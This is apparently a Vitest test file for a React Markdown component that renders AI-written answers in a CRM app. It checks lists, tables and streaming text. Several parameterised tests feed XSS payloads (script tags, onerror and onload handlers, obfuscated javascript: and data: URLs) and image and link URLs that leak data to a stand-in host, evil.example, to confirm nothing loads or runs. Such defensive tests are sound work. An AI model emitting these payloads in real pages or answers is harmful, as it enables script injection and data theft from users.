// @vitest-environment page
import { MemoryRouter } from '@steps/testing';
import { cleanup, render, screen } from '@testing-library/react';
import fc from 'fast-check';
import { afterEach, expect, it } from 'vitest';
import { Markdown } from './Markdown';

afterEach(cleanup);

/** Signs of Markdown and HTML, words between them. */
const pieces = [
  ...[
    '\n',
    '\n\n',
    ' ',
    '- ',
    '1. ',
    '# ',
    '> ',
    '*',
    '**',
    '_',
    '~~',
    '`',
    '```\n',
    '|',
    '|-|-|',
    '[',
    ']',
    '](/?a)',
    '<',
    '>',
    '<b>',
    '&amp;',
  ],
  ...['w1', 'w2', 'w3'],
];

const show = (text: string, unfinished = false) =>
  render(
    <MemoryRouter>
      <Markdown text={text} unfinished={unfinished} />
    </MemoryRouter>,
  ).container;

it('shows bold words, lists and links to records', () => {
  show('**3** deals:\n\n- [Oak tables](/?module=crm&deal=1) · £500');
  expect(screen.getByRole('link', { name: 'Oak tables' }).getAttribute('href')).toBe('/?module=crm&deal=1');
  expect(screen.getByText('3').tagName).toBe('STRONG');
});

it.each([
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '![picture](https://evil.example/?leak=Ann)',
  '[Open](https://evil.example/?leak=Ann)',
  '[Open](//evil.example)',
  '[Open](/\\evil.example)',
  '[Open](javascript:alert(1))',
  '<a href="https://evil.example">Open</a>',
  '<https://evil.example/?leak=Ann>',
  'https://evil.example/?leak=Ann',
])('%s is text: nothing is loaded, run or linked', (text) => {
  for (const unfinished of [false, true])
    expect(show(text, unfinished).querySelectorAll('img, script, iframe, a')).toHaveLength(0);
});

it('an answer that is being written shows no marks of what has no end yet', () => {
  expect(show('Two deals:\n\n- [Oak tables](/?module=crm&deal=1) · £500\n- [Pine', true).textContent).toBe(
    'Two deals:Oak tables · £500Pine',
  );
  expect(show('The **two dea', true).textContent).toBe('The two dea');
  expect(show('- [ ] Call\n- [x] Write', true).querySelectorAll('input')).toHaveLength(2);
});

it('shows what answers are written in: numbers that go on, a table, entities and boxes', () => {
  const shown = show(
    [
      'Three steps:',
      '',
      '1. **Call** the customer',
      '',
      'The number is on their card.',
      '',
      '2. **Send** the offer',
      '| Deal | Value |',
      '| --- | ---: |',
      '| Kitchen refit | £4,800 |',
      '',
      'Smith &amp; Daughters &copy; 5 &lt; 6',
      '',
      '- [x] Called',
      '- [ ] Sent',
    ].join('\n'),
  );
  expect([...shown.querySelectorAll('ol')].map(({ start }) => start)).toEqual([1, 2]);
  expect(screen.getByRole('columnheader', { name: 'Value' }).style.textAlign).toBe('right');
  expect(screen.getByRole('cell', { name: '£4,800' })).toBeDefined();
  expect(screen.getByText('Smith & Daughters © 5 < 6')).toBeDefined();
  expect(screen.getByRole('checkbox', { name: 'Done' })).toHaveProperty('checked', true);
  expect(screen.getByRole('checkbox', { name: 'To do' })).toHaveProperty('checked', false);
});

it('counts on over code and paragraphs inside, and from any number', () => {
  const shown = show('7. seven\n\n   more of it\n\n8. eight\n\n```\ncode\n```\n\n9. nine');
  expect([...shown.querySelectorAll('ol')].map(({ start, children }) => [start, children.length])).toEqual([
    [7, 2],
    [9, 1],
  ]);
  expect(shown.querySelector('pre')?.textContent?.trim()).toBe('code');
});

it('shows HTML as words, and says where a link outside Steps would lead', () => {
  const shown = show('<b>bold</b> and [the offer](https://evil.example/?leak=Ann)\n\n[^1] note\n\n[^1]: id');
  expect(shown.textContent).toContain('<b>bold</b> and the offer (https://evil.example/?leak=Ann)');
  expect(shown.querySelectorAll('b, [id]')).toHaveLength(0);
});

it.each([
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](JaVaScRiPt:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](//evil.example)',
  '[x]: https://evil.example\n\n[x]',
  '[![x](https://evil.example/a.png)](https://evil.example)',
  '<iframe src="https://evil.example"></iframe>',
  '<svg/onload=alert(1)>',
  '<style>@import url(https://evil.example)</style>',
  '<details open ontoggle=alert(1)>\n\n<img src=x onerror=alert(1)>\n\n</details>',
  'me@evil.example and www.evil.example',
])('%s draws no element that loads, runs or leads away', (text) => {
  expect(show(text).querySelectorAll('img, script, iframe, svg, style, link, details, a')).toHaveLength(0);
});

it.each(['~~~~w2', '~~~~w2```\n', '```w2 and more\ncode\n```', '> ~~~ w2'])(
  '%s shows what stands behind the marks of a block of code',
  (text) => expect(show(text).textContent).toContain('w2'),
);

it('a block of code is shown as it is under its language, also where it holds the marks of another', () => {
  const inner = '```ruby\nputs "Hello"\n```';
  const shown = show(`\`\`\`\`md notes.md\n${inner}\n\`\`\`\`\n\n\`\`\`markdown\n${inner}\n\`\`\`\n\nafter`);
  expect([...shown.querySelectorAll('pre')].map(({ textContent }) => textContent)).toEqual([inner, inner]);
  expect([...shown.querySelectorAll('p')].map(({ textContent }) => textContent)).toEqual([
    'md notes.md',
    'markdown',
    'after',
  ]);
});

it('any text is drawn, and none of its words is lost', () => {
  fc.assert(
    fc.property(fc.array(fc.constantFrom(...pieces), { maxLength: 30 }), (parts) => {
      const shown = show(parts.join(''));
      expect(shown.querySelectorAll('img, script, iframe')).toHaveLength(0);
      const words = parts.filter((part) => /^w\d$/.test(part));
      for (const word of words) expect(shown.textContent).toContain(word);
      cleanup();
    }),
    { numRuns: 60 },
  );
});
